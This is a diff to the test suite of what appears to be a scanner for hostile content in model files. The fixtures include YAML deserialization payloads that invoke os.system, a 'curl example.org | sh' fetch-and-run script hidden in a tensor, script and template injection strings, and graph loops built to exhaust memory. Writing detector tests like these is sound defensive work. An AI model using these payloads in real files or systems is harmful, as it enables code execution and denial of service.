@@ -63,6 +63,7 @@ def test_a_hostile_file_is_found_in_time(name: str) -> None:
         b"sha256:" + b"9f86d081884c7d65" * 4,
         b'{"precompiled_charsmap": "' + base64.b64encode(NOISE) + b'"}',
         b"https://example.org/?q=<2&r>1 | head",
+        b"names: !!set {person, car}\nsource: https://example.org/python/object-detection",
         "Größe, 模型, ∑ → ok\nsecond line\tand a tab".encode(),
         b"-5.0",
         b"=1",
@@ -79,6 +80,8 @@ def test_honest_metadata_is_quiet(value_: bytes) -> None:
         (b"#!/bin/sh\nid\n", "MSP4030", Severity.HIGH),
         (b"import os\nprint(os.environ)", "MSP4030", Severity.MEDIUM),
         (b"<script>alert(1)</script>", "MSP4030", Severity.HIGH),
+        (b"!!python/object/apply:os.system ['id']", "MSP4030", Severity.HIGH),
+        (b"post: !<tag:yaml.org,2002:python/name:os.system>", "MSP4030", Severity.HIGH),
         (b"{{ ''.__class__.__mro__ }}", "MSP4030", Severity.HIGH),
         (base64.b64encode(NOISE * 2), "MSP4031", Severity.MEDIUM),
         (b"7f454c46020101000000000000000000" + b"03003e00" + b"00" * 200, "MSP4031", None),
@@ -184,6 +187,31 @@ def test_a_value_put_beside_itself_doubles(rounds: int, *, hostile: bool) -> Non
     nodes = [node("Concat", [a, a], [b], attribute("axis", 2, number(3, 1))) for a, b in pairwise(names)]
     data = model(graph(nodes, [], [value("x")], [value(names[-1])]))
     assert ("MSP4045" in found(data)) is hostile
+
+
+@pytest.mark.parametrize(
+    ("inside", "rounds", "hostile"),
+    [("v v", 60, True), ("v v", 6, False), ("v w", 60, False)],
+)
+def test_a_loop_that_doubles_what_it_carries(inside: str, rounds: int, *, hostile: bool) -> None:
+    joined = node("Concat", inside.split(), ["v2"], attribute("axis", 2, number(3, 0)))
+    body = graph(
+        [joined, node("Identity", ["c"], ["go"])],
+        [tensor("w", [1], bytes(4))],
+        [value("i", [], INT64), value("c", [], 9), value("v", [1])],
+        [value("go", [], 9), value("v2", [1])],
+    )
+    tensors = [ints("t", [], [rounds]), tensor("c", [], b"\1", 9)]
+    loop = node("Loop", ["t", "c", "x"], ["y"], attribute("body", 5, message(6, body)))
+    assert ("MSP4045" in found(model(graph([loop], tensors, [value("x", [1])], [value("y", [1])])))) is hostile
+
+
+@pytest.mark.parametrize(("kind", "content"), [(1, 0), (2, 0), (1, 1)])
+def test_a_script_is_a_script_in_whatever_type_of_tensor(kind: int, content: int) -> None:
+    script = (b"#!/bin/sh\ncurl example.org | sh\n\n", b"the quick brown fox is no script")[content]
+    size = [len(script) // 4] if kind == 1 else [len(script)]
+    said = found(linear(tensors=[tensor("aux", size, script, kind)]))
+    assert ("MSP4030" in said) is (content == 0)
 
 
 def test_dimensions_that_are_not_known_are_not_multiplied() -> None:
